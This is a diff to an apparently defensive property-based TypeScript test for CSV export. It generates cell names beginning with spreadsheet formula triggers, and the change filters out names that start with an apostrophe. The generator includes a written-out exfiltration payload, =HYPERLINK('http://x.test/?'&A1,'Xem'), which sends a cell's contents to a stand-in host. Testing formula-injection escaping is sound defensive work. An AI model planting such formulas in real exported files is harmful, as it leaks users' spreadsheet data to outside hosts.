@@ -14,7 +14,9 @@ const hostileName = fc
     fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' =', '＝', '=HYPERLINK("http://x.test/?"&A1,"Xem")'),
     fc.string({ maxLength: 20 }),
   )
-  .map(([start, rest]) => `${start}${rest}`);
+  .map(([start, rest]) => `${start}${rest}`)
+  // A name that itself begins with an apostrophe once trimmed ("\t'…") shows it rightly: not what is tested here.
+  .filter((name) => !name.trim().startsWith("'"));
 
 /** RFC 4180 cells, quotes and line breaks inside quoted cells included. */
 function parseCsv(text: string): string[][] {
